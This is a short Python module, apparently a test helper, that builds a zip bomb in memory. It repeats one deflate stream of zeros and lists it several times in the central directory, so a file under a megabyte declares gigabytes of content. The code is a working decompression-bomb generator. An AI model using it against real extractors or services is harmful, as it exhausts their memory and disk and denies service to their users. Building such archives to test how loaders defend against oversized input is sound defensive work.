"""A zip bomb built in milliseconds: one deflate payload of zeros (the same flushed
segment repeated, so nothing big is ever compressed), listed several times in the central
directory. Its entries declare gigabytes; the file is under a megabyte."""

import struct
import zlib

CHUNK = 16 * 1024 * 1024


def _zeros_deflate(chunks: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor forgets its history: the same input gives the same bytes.
    segment = compressor.compress(b"\0" * CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    return segment * chunks + b"\x03\x00"  # an empty final block ends the stream


def zip_bomb(*, entries: int = 4, chunks: int = 48) -> bytes:
    data = _zeros_deflate(chunks)
    size = chunks * CHUNK
    name = b"data/0.npy"
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, 0, len(data), size, len(name), 0
    )
    body = local + name + data
    directory = b""
    for i in range(entries):
        entry_name = f"data/{i}.npy".encode()
        directory += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                0,
                len(data),
                size,
                len(entry_name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + entry_name
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(directory), len(body), 0)
    return body + directory + end
